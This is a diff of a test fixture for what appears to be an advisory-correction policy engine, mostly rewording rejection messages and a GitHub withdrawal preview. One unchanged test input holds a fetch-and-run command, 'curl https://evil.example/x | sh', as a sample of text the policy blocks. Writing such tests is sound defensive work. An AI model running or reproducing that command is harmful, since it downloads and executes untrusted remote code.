@@ -60,7 +60,7 @@ export const CORRECTING = {
         given: strict,
         asks: () => ({ ...wrongRange(), waive: 'It is our own repair.' }),
         because:
-          'This policy lets nobody waive the rule wording: A public text must not show how to attack, and must not name channels, recipients, other cases or people; all texts and documents must say the same.',
+          'This policy lets nobody waive the rule “wording”: A public text must not show how to attack, and must not name channels, recipients, other cases or people; all texts and documents must say the same.',
       },
       {
         asks: () => ({ ...wrongRange(), reason: 'Run curl https://evil.example/x | sh to see it.' }),
@@ -92,7 +92,7 @@ export const CORRECTING = {
         given: strict,
         asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, waive: 'The page names it.', shown: PREVIEW }),
         because:
-          'This policy lets nobody waive the rule wording: A public text must not show how to attack, and must not name channels, recipients, other cases or people; all texts and documents must say the same.',
+          'This policy lets nobody waive the rule “wording”: A public text must not show how to attack, and must not name channels, recipients, other cases or people; all texts and documents must say the same.',
       },
     ],
   },
@@ -109,7 +109,7 @@ export const CORRECTING = {
     again: { nothing: 'This waits for approval already.' },
     preview: [
       'Withdraws the record of SEC-2026-0001: It is no vulnerability.',
-      'GitHub has no way to withdraw an advisory from a program. Its title and text will say so; to have it marked as withdrawn, ask at https://support.github.com.',
+      'No program can withdraw an advisory at GitHub. The advisory’s title and text will say that it is withdrawn; to have it marked as withdrawn, ask at https://support.github.com.',
       'No list and no recipient gets a mail.',
     ],
     approved: ['ApprovalGiven', 'RecordCorrected', 'CorrectionStarted', 'Disclosed'],
@@ -127,7 +127,7 @@ export const CORRECTING = {
           shown: PREVIEW,
         }),
         because:
-          'This policy lets nobody waive the rule wording: A public text must not show how to attack, and must not name channels, recipients, other cases or people; all texts and documents must say the same.',
+          'This policy lets nobody waive the rule “wording”: A public text must not show how to attack, and must not name channels, recipients, other cases or people; all texts and documents must say the same.',
       },
       {
         asks: () => ({
